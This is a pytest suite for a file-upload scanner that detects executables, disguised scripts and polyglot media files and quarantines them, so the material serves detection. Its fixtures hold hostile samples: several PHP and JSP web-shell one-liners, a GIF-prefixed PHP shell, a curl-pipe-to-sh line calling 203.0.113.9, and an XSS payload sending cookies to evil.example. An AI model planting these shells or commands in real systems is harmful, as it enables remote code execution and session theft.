# Copyright (c) 2026, aiguard.hardening maintainers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Content sniffing, verdicts, walking, quarantine, release and retention of uploadscan."""

from __future__ import annotations

import io
import json
import os
import shutil
import stat
import struct
import subprocess
import time
import wave
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ansible_collections.aiguard.hardening.plugins.module_utils import uploadscan as us


def h(text):
    return bytes.fromhex(text.replace(" ", ""))


def _wav():
    buf = io.BytesIO()
    with wave.open(buf, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(b"\0\0" * 800)
    return buf.getvalue()


def _zip(name="report.txt"):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:
        out.writestr(name, "hello")
    return buf.getvalue()


def _pe():
    dos = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\0" * 47)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(dos) + stub.ljust(0x80 - len(dos), b"\0")
    return body + b"PE\0\0" + h("6486 0600 00000000 00000000 00000000 f000 2200")


# Real header bytes, each with where it comes from, and the type libmagic
# (file --mime-type, 5.44) gives for the same bytes: the table is checked
# against libmagic below when `file` is installed.
HEADERS = [
    # name, type, libmagic MIME, bytes
    (
        "mp4",
        "mp4",
        "video/mp4",  # ffmpeg (Lavf) output: gradio/media_assets/videos/a.mp4
        h("00000020 66747970 69736f6d 00000200 69736f6d 69736f32 61766331 6d703431 00000008 667265650001dacd 6d646174"),
    ),
    (
        "m4a",
        "m4a",
        "audio/x-m4a",  # iTunes AAC
        h("00000020 66747970 4d344120 00000000 4d344120 6d703432 69736f6d 00000000 00000008 66726565"),
    ),
    (
        "mov",
        "mov",
        "video/quicktime",  # QuickTime / iPhone
        h("00000014 66747970 71742020 20050300 71742020 00000008 77696465 0001dacd 6d646174"),
    ),
    ("wav", "wav", "audio/x-wav", _wav()),  # Python's wave module
    (
        "wav",
        "wav",
        "audio/x-wav",  # gradio/media_assets/audio/audio_sample.wav
        h("52494646 003f0000 57415645 666d7420 10000000 01000100 401f0000 803e0000 02001000 64617461dc3e0000 8eff0fff"),
    ),
    # ID3v2.3 tag of gradio/media_assets/audio/cate_blanch.mp3; libmagic needs the
    # audio frame behind the 4 KiB tag to say audio/mpeg.
    (
        "mp3",
        "mp3",
        None,
        h("49443303 00000000 201e5445 4e430000 00140000 004d6f76 6965736f 756e6463 6c697073 2e6e657400000000 00000000"),
    ),
    (
        "mp3",
        "mp3",
        "audio/mpeg",  # ID3v2.4 by Lavf, then a LAME frame
        h("49443304 00000000 00165453 53450000 000c0000 034c6176 6635332e 352e3000 fff380c4 0000000348000000 004c414d"),
    ),
    (
        "mp3",
        "mp3",
        "audio/mpeg",  # no tag: MPEG-1 layer III frames, 128 kbit/s, 44.1 kHz, 417 bytes each
        (h("fffb9064") + b"\0" * 413) * 3,
    ),
    (
        "flac",
        "flac",
        "audio/flac",  # libFLAC STREAMINFO
        h("664c6143 00000022 10001000 00000e00 1c3c0ac4 42f00000 0000d5c9 f1e0b2e4 3a5f1b37 9da6b5f3ac108400 0028200d"),
    ),
    (
        "ogg",
        "ogg",
        "audio/ogg",  # Ogg Vorbis first page
        h(
            "4f676753 00020000 00000000 00004c8b 36380000 00006cb6 d2a6011e 01766f72 62697300 00000001"
            "44ac0000 00000000 80380100 00000000 b801"
        ),
    ),
    (
        "webm",
        "webm",
        "video/webm",  # ffmpeg EBML header, DocType webm
        h("1a45dfa3 9f428681 0142f781 0142f281 0442f381 08428284 7765626d 42878102 42858102 18538067"),
    ),
    (
        "mkv",
        "mkv",
        "video/x-matroska",  # mkvmerge EBML header, DocType matroska
        h("1a45dfa3 a3428681 0142f781 0142f281 0442f381 08428288 6d617472 6f736b61 42878104 42858102"),
    ),
    (
        "png",
        "png",
        "image/png",  # gradio/media_assets/images/avatar.png
        h("89504e47 0d0a1a0a 0000000d 49484452 00000042 00000039 08060000 0082b1fd ea000000 0467414d410000b1 8f0bfc61"),
    ),
    (
        "jpg",
        "jpeg",
        "image/jpeg",  # JFIF with Exif: gradio/media_assets/images/cheetah.jpg
        h("ffd8ffe0 00104a46 49460001 0101012c 012c0000 ffe1005a 45786966 00004949 2a000800 000001000e010200 38000000"),
    ),
    (
        "gif",
        "gif",
        "image/gif",  # GIF89a: gradio/media_assets/images/screenshot.gif
        h("47494638 39618808 000570ff 0021ff0b 4e455453 43415045 322e3003 01000000 21f90400 2a00ff002c000000 00880800"),
    ),
    (
        "webp",
        "webp",
        "image/webp",  # CPython test data python.webp (VP8X)
        h("52494646 a8010000 57454250 56503858 0a000000 10000000 0f00000f 0000414c 5048c300 00000127a2a89124 e57ae718"),
    ),
    (
        "bmp",
        "bmp",
        "image/bmp",  # CPython test data python.bmp (BITMAPV5HEADER)
        h("424d8a04 00000000 00008a00 00007c00 00001000 00001000 00000100 20000300 00000004 00000000"),
    ),
    (
        "tif",
        "tiff",
        "image/tiff",  # CPython test data python.tiff (little-endian)
        h("49492a00 08040000 00000000 00000000 00000000 00004e8d c0af4a86 baed4883 b4ff447e adff4078"),
    ),
    (
        "tif",
        "tiff",
        "image/tiff",  # big-endian TIFF
        h("4d4d002a 00000008 00110100 00030000 00010010 00000101 00030000 00010010 0000"),
    ),
    (
        "pdf",
        "pdf",
        "application/pdf",  # pdfTeX: libtasn1.pdf
        h("25504446 2d312e35 0a25d0d4 c5d80a31 2030206f 626a0a3c 3c0a2f4c 656e6774 68203538 37202020"),
    ),
    ("zip", "zip", "application/zip", _zip()),  # Python's zipfile
    # Executable and script content.
    # Debian's /bin/true; libmagic says x-pie-executable for the whole file, it
    # needs the dynamic section to tell a PIE from a shared library.
    (
        "bin",
        "elf",
        "application/x-sharedlib",
        h("7f454c46 02010100 00000000 00000000 03003e00 01000000 d0230000 00000000 40000000 00000000"),
    ),
    ("exe", "pe", "application/vnd.microsoft.portable-executable", _pe()),
    (
        "bin",
        "macho",
        "application/x-mach-binary",  # 64-bit x86_64 executable
        h("cffaedfe 07000001 03000000 02000000 10000000 58050000 85002000 00000000"),
    ),
    ("sh", "script", "text/x-shellscript", b"#!/bin/sh\nset -e\ncurl -s http://203.0.113.9/x | sh\n"),
    ("php", "php", "text/x-php", b"<?php system($_GET['cmd']); ?>\n"),
    (
        "html",
        "html",
        "text/html",
        b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n",
    ),
    (
        "jsp",
        "server-page",
        None,
        b'<%@ page import="java.util.*,java.io.*"%>\n<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n',
    ),
    ("aspx", "server-page", None, b'<%@ Page Language="C#" %>\n<% Response.Write("x"); %>\n'),
    ("js", "javascript", None, b"(function () {\n  fetch('/gradio_api/upload');\n})();\n"),
]
MAGIC_ROWS = [row for row in HEADERS if row[2]]
MEDIA_ROWS = [row for row in HEADERS if us.TYPES[row[1]].family == us.MEDIA]
DANGEROUS_ROWS = [row for row in HEADERS if us.TYPES[row[1]].family == us.DANGEROUS]
POLICY = us.Policy()
EVERYTHING = us.Policy(allowed_types=us.DEFAULT_ALLOWED + ("pdf", "zip"))


def ids(rows):
    return [f"{row[1]}-{i}" for i, row in enumerate(rows)]


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), HEADERS, ids=ids(HEADERS))
def test_sniff_real_headers(ext, kind, _magic, head):
    assert us.sniff(head).type == kind


@pytest.mark.skipif(shutil.which("file") is None, reason="libmagic's file(1) is not installed")
@pytest.mark.parametrize(("ext", "kind", "magic", "head"), MAGIC_ROWS, ids=ids(MAGIC_ROWS))
def test_libmagic_agrees_on_the_table(tmp_path, ext, kind, magic, head):
    """The table holds real headers: Debian's libmagic names the same type for the same bytes."""
    path = tmp_path / f"sample.{ext}"
    path.write_bytes(head)
    found = subprocess.run(["file", "-b", "--mime-type", str(path)], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == magic


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), HEADERS, ids=ids(HEADERS))
def test_right_name_is_allowed_only_for_data(ext, kind, _magic, head):
    verdict, detection, reason = us.judge(f"upload.{ext}", len(head), head, EVERYTHING)
    if us.TYPES[kind].family == us.DANGEROUS:
        assert verdict == us.EXECUTABLE, reason
        assert "must never be stored" in reason or "found" in reason
    else:
        assert (verdict, detection.type) == (us.ALLOWED, kind), reason


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), MEDIA_ROWS, ids=ids(MEDIA_ROWS))
def test_mismatched_extension(ext, kind, _magic, head):
    other = "pdf" if ext != "pdf" else "png"
    verdict, _detection, reason = us.judge(f"photo.{other}", len(head), head, POLICY)
    assert verdict == us.EXTENSION_MISMATCH
    assert f"the extension .{other} does not match the content, {us.TYPES[kind].label}" in reason


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), DANGEROUS_ROWS, ids=ids(DANGEROUS_ROWS))
@pytest.mark.parametrize("disguise", ["avatar.mp4", "voice.wav", "portrait.png", "avatar.php.mp4"])
def test_disguised_executables(ext, kind, _magic, head, disguise):
    verdict, detection, reason = us.judge(disguise, len(head), head, POLICY)
    assert verdict == us.EXECUTABLE, reason
    assert detection.kind.family == us.DANGEROUS


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), MEDIA_ROWS, ids=ids(MEDIA_ROWS))
@pytest.mark.parametrize(
    "payload",
    [
        b"<?php system($_GET['c']); ?>",
        b"<?=`$_GET[0]`?>",
        b"<script>fetch('//evil.example/'+document.cookie)</script>",
        b'<%@ page import="java.io.*" %>',
        b'<% eval request("x") %>',
    ],
)
def test_polyglots(ext, kind, _magic, head, payload):
    """A valid media header with a script inside the window: the classic GIFAR / PHP-in-EXIF upload."""
    data = head + b"\0" * 100 + payload + b"\0" * 100
    verdict, detection, reason = us.judge(f"upload.{ext}", len(data), data, POLICY)
    assert verdict == us.POLYGLOT, reason
    assert detection.type == kind
    assert f"at byte {len(head) + 100}" in reason


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), MEDIA_ROWS, ids=ids(MEDIA_ROWS))
def test_script_beyond_the_window_is_not_seen(ext, kind, _magic, head):
    """The documented limit: only the window is searched."""
    data = head + b"\0" * 200 + b"<?php ?>"
    policy = us.Policy(window=len(head) + 100)
    assert us.judge(f"upload.{ext}", len(data), data[: policy.window], policy)[0] == us.ALLOWED


@pytest.mark.parametrize(
    ("ext", "kind", "_magic", "head"),
    MEDIA_ROWS + [r for r in HEADERS if r[1] in ("pdf", "zip")],
    ids=ids(MEDIA_ROWS + [r for r in HEADERS if r[1] in ("pdf", "zip")]),
)
def test_truncated_headers_are_not_taken_for_the_type(ext, kind, _magic, head):
    """Three bytes of a header are never enough to be allowed."""
    verdict, detection, _reason = us.judge(f"upload.{ext}", 3, head[:3], POLICY)
    assert detection.type != kind or kind == "jpeg"
    assert verdict != us.ALLOWED or kind == "jpeg"


def test_gif_prefixed_web_shell():
    """The classic "GIF89a;" in front of a PHP shell is never allowed."""
    data = b"GIF89a;\n<?php eval(base64_decode($_POST['x'])); ?>\n"
    verdict, detection, reason = us.judge("avatar.gif", len(data), data, POLICY)
    assert verdict == us.POLYGLOT and detection.type == "gif" and "PHP code inside ('<?php' at byte 8)" in reason


def test_empty_file():
    assert us.judge("voice.wav", 0, b"", POLICY)[0] == us.EMPTY


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("avatar.php.mp4", us.DOUBLE_EXTENSION),
        ("shell.PHP.jpg", us.DOUBLE_EXTENSION),
        ("x.jsp.png", us.DOUBLE_EXTENSION),
        ("holiday.2025.mp4", us.ALLOWED),
        ("my.video.mp4", us.ALLOWED),
        (".hidden.mp4", us.ALLOWED),
        ("noext", us.ALLOWED),
        ("clip.MP4", us.ALLOWED),
    ],
)
def test_double_extension(name, expected):
    head = HEADERS[0][3]
    verdict, _detection, reason = us.judge(name, 1000, head, POLICY)
    assert verdict == expected, reason
    if expected == us.DOUBLE_EXTENSION:
        assert "hides a ." in reason


def test_size_limit_and_type_policy():
    head = HEADERS[0][3]
    policy = us.Policy(max_size=1000)
    assert us.judge("a.mp4", 1000, head, policy)[0] == us.ALLOWED
    verdict, _d, reason = us.judge("a.mp4", 1001, head, policy)
    assert verdict == us.OVERSIZE and reason == "1001 bytes is over the limit of 1000 bytes"
    pdf = [r for r in HEADERS if r[1] == "pdf"][0][3]
    verdict, _d, reason = us.judge("a.pdf", 100, pdf, POLICY)
    assert verdict == us.TYPE_NOT_ALLOWED and "does not accept" in reason
    assert us.judge("notes.txt", 5, b"hello", POLICY)[0] == us.TYPE_NOT_ALLOWED
    assert us.judge("a.mp4", 5, b"hello", POLICY)[0] == us.EXTENSION_MISMATCH
    assert us.judge("a.mp4", 5, b"\x00\x01\x02\x03\x04", POLICY)[0] == us.TYPE_NOT_ALLOWED


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("200m", 200 * 1024**2),
        ("512K", 512 * 1024),
        ("1g", 1024**3),
        ("1000", 1000),
        (1000, 1000),
        ("0", None),
        ("", None),
        (None, None),
    ],
)
def test_parse_size(text, expected):
    assert us.parse_size(text) == expected


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (dict(allowed_types=["mp4", "exe"]), "unknown type(s) exe"),
        (dict(allowed_types=["php"]), "php is executable or script content and cannot be allowed"),
        (dict(action="quarantine"), "needs a quarantine directory"),
        (dict(window=10), "at least 64 bytes"),
    ],
)
def test_bad_policies(args, message):
    with pytest.raises(us.UploadScanError, match=message.replace("(", r"\(").replace(")", r"\)")):
        us.Policy(**args)


@pytest.mark.parametrize("text", ["20 parsecs", "1.5m", "-1", "1t"])
def test_bad_sizes(text):
    with pytest.raises(us.UploadScanError, match="not a size nginx understands"):
        us.parse_size(text)


@pytest.mark.parametrize(
    ("head", "clean"),
    [
        # Real metadata that must not look like script: XMP packets in JPEG/PNG, PDF dictionaries.
        (
            b"\xff\xd8\xff\xe1\x10\x00http://ns.adobe.com/xap/1.0/\0<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>"
            b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF></rdf:RDF></x:xmpmeta><?xpacket end='w'?>",
            True,
        ),
        (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n", True),
        (b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n", False),
    ],
)
def test_metadata_is_not_a_marker(head, clean):
    assert (us.sniff(head).marker is None) is clean


@settings(max_examples=400, deadline=None)
@given(st.binary(max_size=600))
def test_random_bytes_never_crash(data):
    verdict, detection, reason = us.judge("upload.bin", len(data), data, EVERYTHING)
    assert verdict in us.VERDICTS and detection.type in us.TYPES and reason


@settings(max_examples=400, deadline=None)
@given(
    st.sampled_from([r[3][:8] for r in DANGEROUS_ROWS if us.TYPES[r[1]].family == us.DANGEROUS]),
    st.binary(max_size=600),
    st.sampled_from(["a.mp4", "a.png", "a.wav", "a", "a.php.mp4"]),
)
def test_executable_headers_are_never_allowed(prefix, rest, name):
    data = prefix + rest
    verdict, _detection, reason = us.judge(name, len(data), data, EVERYTHING)
    assert verdict != us.ALLOWED, reason


# ---------------------------------------------------------------------------
# Walking the tree, quarantine and release.


@pytest.fixture
def tree(tmp_path):
    up = tmp_path / "uploads"
    (up / "abc123").mkdir(parents=True)
    (up / "abc123" / "portrait.png").write_bytes(HEADERS[12][3])
    (up / "voice.wav").write_bytes(_wav())
    (up / "avatar.php.mp4").write_bytes(b"<?php system($_GET['c']); ?>")
    (up / "clip.mp4").write_bytes(HEADERS[0][3])
    return tmp_path


def quarantine_policy(tmp_path, **kwargs):
    return us.Policy(action=us.QUARANTINE, quarantine_dir=str(tmp_path / "quarantine"), **kwargs)


def test_scan_reports_without_changing(tree):
    counts, results = us.scan([str(tree / "uploads")], us.Policy())
    assert counts["scanned"] == 4 and counts["flagged"] == 1 and counts[us.EXECUTABLE] == 1
    assert [r["path"] for r in results] == [str(tree / "uploads" / "avatar.php.mp4")]
    assert results[0]["action"] == "none" and results[0]["type"] == "php"
    assert (tree / "uploads" / "avatar.php.mp4").exists()
    _counts, everything = us.scan([str(tree / "uploads")], us.Policy(), list_allowed=True)
    assert len(everything) == 4


def test_quarantine_check_mode_then_apply_then_release(tree):
    policy = quarantine_policy(tree)
    shell = tree / "uploads" / "avatar.php.mp4"
    os.chmod(shell, 0o755)
    counts, results = us.scan([str(tree / "uploads")], policy, apply=False)
    assert counts["quarantined"] == 1 and results[0]["action"] == "would quarantine"
    assert shell.exists() and not (tree / "quarantine").exists()

    counts, results = us.scan([str(tree / "uploads")], policy, now=1767225600)
    assert counts["quarantined"] == 1
    result = results[0]
    qid = result["quarantine_id"]
    assert qid.startswith("20260101T000000Z-") and not shell.exists()
    qdir = tree / "quarantine"
    assert stat.S_IMODE(qdir.stat().st_mode) == 0o700
    data = qdir / f"{qid}.data"
    assert data.read_bytes() == b"<?php system($_GET['c']); ?>"
    assert stat.S_IMODE(data.stat().st_mode) == 0o400
    record = json.loads((qdir / f"{qid}.json").read_text())
    assert record["original_path"] == str(shell) and record["detected_type"] == "php"
    assert record["verdict"] == us.EXECUTABLE and record["reason"] == result["reason"]
    assert record["sha256"] == result["sha256"] and len(record["sha256"]) == 64
    assert record["quarantined_at"] == "2026-01-01T00:00:00+00:00" and record["mode"] == "0755"
    assert [r["id"] for r in us.list_quarantine(str(qdir))] == [qid]

    # Converged: nothing left to do, in check mode too.
    assert us.scan([str(tree / "uploads")], policy)[0]["quarantined"] == 0
    assert us.scan([str(tree / "uploads")], policy, apply=False)[0]["quarantined"] == 0

    record = us.release(str(qdir), qid)
    assert shell.read_bytes() == b"<?php system($_GET['c']); ?>"
    assert stat.S_IMODE(shell.stat().st_mode) == 0o644  # back, without its exec bits
    assert record["released_at"]
    assert not (qdir / f"{qid}.json").exists() and (qdir / f"{qid}.released.json").exists()
    assert us.list_quarantine(str(qdir)) == []
    assert us.release(str(qdir), qid) is None  # idempotent
    # A released file stays where it is: a person decided so.
    counts, results = us.scan([str(tree / "uploads")], policy)
    assert counts["quarantined"] == 0 and results[0]["action"] == "kept: released from quarantine before"
    assert shell.exists()
    # Changed content is judged again.
    shell.write_bytes(b"<?php phpinfo(); ?>")
    assert us.scan([str(tree / "uploads")], policy)[0]["quarantined"] == 1


def test_release_refuses_to_overwrite(tree):
    policy = quarantine_policy(tree)
    _counts, results = us.scan([str(tree / "uploads")], policy)
    qid = results[0]["quarantine_id"]
    (tree / "uploads" / "avatar.php.mp4").write_bytes(b"new")
    with pytest.raises(us.UploadScanError, match="exists again"):
        us.release(str(tree / "quarantine"), qid)
    with pytest.raises(us.UploadScanError, match="no file with id"):
        us.release(str(tree / "quarantine"), "20260101T000000Z-000000000000-000000")
    with pytest.raises(us.UploadScanError, match="not a quarantine id"):
        us.release(str(tree / "quarantine"), "../../etc/passwd")


def test_quarantine_dir_must_be_private(tree):
    (tree / "quarantine").mkdir(mode=0o755)
    os.chmod(tree / "quarantine", 0o755)
    with pytest.raises(us.UploadScanError, match="mode 0700"):
        us.scan([str(tree / "uploads")], quarantine_policy(tree))


def test_quarantine_inside_the_tree_is_not_scanned(tree):
    policy = us.Policy(action=us.QUARANTINE, quarantine_dir=str(tree / "uploads" / ".quarantine"))
    assert us.scan([str(tree / "uploads")], policy)[0]["quarantined"] == 1
    counts, _results = us.scan([str(tree / "uploads")], policy)
    assert counts["scanned"] == 3 and counts["flagged"] == 0


def test_links_and_special_files_are_never_followed_or_moved(tree):
    up = tree / "uploads"
    secret = tree / "secret.sh"
    secret.write_bytes(b"#!/bin/sh\necho secret\n")
    os.symlink(secret, up / "innocent.mp4")
    os.symlink(tree, up / "escape")
    os.mkfifo(up / "pipe.wav")
    counts, results = us.scan([str(up)], quarantine_policy(tree))
    by_name = {os.path.basename(r["path"]): r for r in results}
    assert by_name["innocent.mp4"]["verdict"] == us.NOT_REGULAR
    assert "symbolic link" in by_name["innocent.mp4"]["reason"]
    assert by_name["escape"]["verdict"] == us.NOT_REGULAR
    assert "FIFO" in by_name["pipe.wav"]["reason"]
    assert counts["quarantined"] == 1  # the PHP file only
    assert secret.exists() and os.path.islink(up / "innocent.mp4") and os.path.exists(up / "pipe.wav")


@pytest.fixture
def mount_here():
    """``mount ARGS... POINT`` for the test, undone after it; skips where mounting is not possible (needs root)."""
    points = []

    def mount(*args):
        if os.geteuid() != 0 or shutil.which("mount") is None:
            pytest.skip("mounting needs root")
        done = subprocess.run(["mount", *map(str, args)], capture_output=True, text=True, check=False)
        if done.returncode != 0:
            pytest.skip(f"cannot mount here: {done.stderr.strip()}")
        points.append(args[-1])

    yield mount
    for point in reversed(points):
        subprocess.run(["umount", str(point)], check=False)


@pytest.fixture
def mounted(tree, mount_here):
    """A tmpfs mounted inside the upload tree, holding one web shell."""
    point = tree / "uploads" / "mnt"
    point.mkdir()
    mount_here("-t", "tmpfs", "-o", "size=1m", "aiguard-test", point)
    (point / "shell.php.mp4").write_bytes(b"<?php system($_GET['c']); ?>")
    return point


@pytest.mark.parametrize("one_filesystem", [True, False])
def test_mount_points_inside_the_tree(mounted, one_filesystem):
    # A mount point's listed inode is that of the directory under the mount,
    # so it must be told apart by its device, not reported as replaced.
    counts, results = us.scan([str(mounted.parent)], us.Policy(one_filesystem=one_filesystem))
    by_path = {r["path"]: r for r in results}
    if one_filesystem:
        assert by_path[str(mounted)]["verdict"] == us.NOT_REGULAR
        assert "another filesystem" in by_path[str(mounted)]["reason"]
        assert counts["scanned"] == 5 and counts[us.CHANGED] == 0
    else:
        assert by_path[str(mounted / "shell.php.mp4")]["verdict"] == us.EXECUTABLE
        assert counts["scanned"] == 5 and counts[us.CHANGED] == 0 and counts["flagged"] == 2


def test_bind_mount_of_the_same_filesystem_is_walked(tree, mount_here):
    # The listing shows the inode of the directory under the mount, the
    # opened directory the inode of the mounted one, on the same device: it
    # used to be reported as replaced and never walked, so a web shell in
    # it stayed unseen scan after scan.
    outside = tree / "elsewhere"
    outside.mkdir()
    (outside / "shell.php.mp4").write_bytes(b"<?php system($_GET['c']); ?>")
    point = tree / "uploads" / "shared"
    point.mkdir()
    mount_here("--bind", outside, point)
    counts, results = us.scan([str(tree / "uploads")], us.Policy())
    by_path = {r["path"]: r for r in results}
    assert by_path[str(point / "shell.php.mp4")]["verdict"] == us.EXECUTABLE
    assert counts["scanned"] == 5 and counts[us.CHANGED] == 0 and counts["flagged"] == 2


def test_bind_mount_of_a_directory_above_is_not_walked_again(tree, mount_here):
    up = tree / "uploads"
    point = up / "loop"
    point.mkdir()
    mount_here("--bind", up, point)
    counts, results = us.scan([str(up)], us.Policy())
    by_path = {r["path"]: r for r in results}
    assert by_path[str(point)]["verdict"] == us.NOT_REGULAR
    assert "one above it" in by_path[str(point)]["reason"]
    # Each file once, not once per trip round the loop.
    assert counts["scanned"] == 5 and counts["flagged"] == 2


def test_unreadable_file(tree, monkeypatch):
    path = tree / "uploads" / "locked.mp4"
    path.write_bytes(HEADERS[0][3])
    real_open = os.open

    def refusing_open(name, flags, *args, **kwargs):
        if name == "locked.mp4":
            raise PermissionError(13, "Permission denied")
        return real_open(name, flags, *args, **kwargs)

    monkeypatch.setattr(us, "_os_open", refusing_open)
    _counts, results = us.scan([str(tree / "uploads")], us.Policy())
    assert {r["path"]: r["verdict"] for r in results}[str(path)] == us.UNREADABLE


def test_files_vanishing_or_changing_during_the_scan(tree, monkeypatch):
    up = tree / "uploads"
    real_read = os.read
    state = {"n": 0}

    def racing_read(fd, size):
        state["n"] += 1
        if state["n"] == 1:
            victim = "clip.mp4" if os.readlink(f"/proc/self/fd/{fd}").endswith("voice.wav") else "voice.wav"
            state["victim"] = str(up / victim)
            (up / victim).unlink()  # vanishes before it is opened
        return real_read(fd, size)

    monkeypatch.setattr(us, "_os_read", racing_read)
    counts, results = us.scan([str(up)], us.Policy())
    paths = [r["path"] for r in results]
    assert state["victim"] not in paths and counts["scanned"] == 3

    # Truncated between stat and read: left for the next scan.
    (up / "big.mp4").write_bytes(HEADERS[0][3] + b"\0" * 20000)

    def shrinking_read(fd, size):
        data = real_read(fd, size)
        return data[:10] if len(data) == us.WINDOW else data

    monkeypatch.setattr(us, "_os_read", shrinking_read)
    _counts, results = us.scan([str(up)], us.Policy())
    assert {r["path"]: r["verdict"] for r in results}[str(up / "big.mp4")] == us.CHANGED


def test_growing_file_is_not_quarantined_half_read(tree, monkeypatch):
    up = tree / "uploads"
    real = us.sha256_fd

    def grow_first(fd):
        with open(up / "avatar.php.mp4", "ab") as handle:
            handle.write(b"more")
        return real(fd)

    monkeypatch.setattr(us, "sha256_fd", grow_first)
    counts, results = us.scan([str(up)], quarantine_policy(tree))
    assert counts["quarantined"] == 0 and results[0]["verdict"] == us.CHANGED
    assert (up / "avatar.php.mp4").exists()


def test_pending_files_wait_for_min_age(tree):
    counts, results = us.scan([str(tree / "uploads")], us.Policy(min_age=3600))
    assert counts[us.PENDING] == 4 and counts["flagged"] == 0
    assert "maybe still being written" in results[0]["reason"]


@pytest.mark.parametrize(
    "policy",
    [
        us.Policy(),
        EVERYTHING,
        us.Policy(allowed_types=("png", "text", "unknown", "svg"), max_size=3000),
        us.Policy(window=64),
        us.Policy(min_age=3600),
    ],
    ids=["default", "everything", "small", "window64", "min_age"],
)
def test_walk_agrees_with_judge(tmp_path, policy):
    """The walk's quick test for allowed files never changes a verdict: with list_allowed (judge() for every
    file) and without, the counts are the same, and every file judge() does not allow is in both results."""
    up = tmp_path / "uploads"
    names = [
        "a.{ext}",
        "b.{EXT}",
        "c.php.{ext}",
        ".{ext}",
        "..{ext}",
        "noext",
        "d.",
        "e.txt",
        "f.{ext}.bak",
        "g..{ext}",
        "h.tar.{ext}",
    ]
    index = 0
    for ext, _kind, _magic, head in HEADERS:
        for body in (head, head + b"\0" * 5000, head + b" <?php ?>", head[:3], b"", head + b"\n<svg onload=x>"):
            for pattern in names:
                index += 1
                folder = up / f"{index % 7:02x}" / f"{index:05d}"
                folder.mkdir(parents=True, exist_ok=True)
                (folder / pattern.format(ext=ext, EXT=ext.upper())).write_bytes(body)
    quick_counts, quick_results = us.scan([str(up)], policy, apply=False)
    judged_counts, judged_results = us.scan([str(up)], policy, apply=False, list_allowed=True)
    assert quick_counts == judged_counts
    assert quick_results == [r for r in judged_results if r["verdict"] != us.ALLOWED]
    assert quick_counts["scanned"] == index and quick_counts[us.ALLOWED] < index
    assert (quick_counts[us.ALLOWED] > 0) is (not policy.min_age)


def test_reads_only_the_window(tree, monkeypatch):
    big = tree / "uploads" / "big.mp4"
    big.write_bytes(HEADERS[0][3] + b"\0" * 1_000_000)
    sizes = []
    real_read = os.read

    def counting_read(fd, size):
        sizes.append(size)
        return real_read(fd, size)

    monkeypatch.setattr(us, "_os_read", counting_read)
    us.scan([str(tree / "uploads")], us.Policy(window=4096))
    assert sizes and max(sizes) == 4096 and len(sizes) == 5


def test_cli_scan_list_release_expire(tree, capsys):
    config = tree / "upload-scan.json"
    config.write_text(
        json.dumps(
            {
                "directories": [
                    dict(
                        path=str(tree / "uploads"),
                        action="quarantine",
                        quarantine_dir=str(tree / "quarantine"),
                        allowed_types=list(us.DEFAULT_ALLOWED),
                        max_size="10m",
                        retention_days=7,
                    )
                ]
            }
        )
    )
    out = io.StringIO()
    assert us.cli(["scan", "--config", str(config), "--dry-run", "--settle", "0"], out=out) == 0
    assert "to quarantine" in out.getvalue() and (tree / "uploads" / "avatar.php.mp4").exists()
    out = io.StringIO()
    assert us.cli(["scan", "--config", str(config), "--settle", "0"], out=out) == 0
    assert "executable: " + str(tree / "uploads" / "avatar.php.mp4") in out.getvalue()
    assert not (tree / "uploads" / "avatar.php.mp4").exists()
    out = io.StringIO()
    us.cli(["list", "--quarantine-dir", str(tree / "quarantine")], out=out)
    qid = out.getvalue().split()[0]
    out = io.StringIO()
    assert us.cli(["release", qid, "--quarantine-dir", str(tree / "quarantine")], out=out) == 0
    assert (tree / "uploads" / "avatar.php.mp4").exists()
    old = time.time() - 8 * 86400
    os.utime(tree / "uploads" / "voice.wav", (old, old))
    out = io.StringIO()
    assert us.cli(["expire", "--config", str(config)], out=out) == 0
    assert "deleted " + str(tree / "uploads" / "voice.wav") in out.getvalue()
    assert not (tree / "uploads" / "voice.wav").exists()
    assert us.cli(["release", "nope", "--quarantine-dir", str(tree / "quarantine")], out=io.StringIO()) == 2
    assert "not a quarantine id" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        (dict(path="/srv/up", retention_days=7, max_size="200m"), None),
        (dict(path="relative"), "absolute path"),
        (dict(path="/srv/up", retention_days=0), "at least 1"),
        (dict(path="/srv/up", max_size="big"), "not a size nginx understands"),
        (dict(path="/srv/up", action="quarantine"), "needs a quarantine directory"),
        (dict(path="/srv/up", allowed_types=["elf"]), "cannot be allowed"),
    ],
)
def test_cli_check_config(tmp_path, capsys, entry, message):
    config = tmp_path / "c.json"
    config.write_text(json.dumps({"directories": [entry]}))
    out = io.StringIO()
    rc = us.cli(["check-config", str(config)], out=out)
    if message is None:
        assert rc == 0 and "1 directories, valid" in out.getvalue()
    else:
        assert rc == 2 and message in capsys.readouterr().err


# ---------------------------------------------------------------------------
# Retention.


def _age(path, days, now):
    os.utime(path, (now - days * 86400, now - days * 86400))


def test_expire_by_age_and_cap(tmp_path):
    now = time.time()
    root = tmp_path / "outputs"
    (root / "job1").mkdir(parents=True)
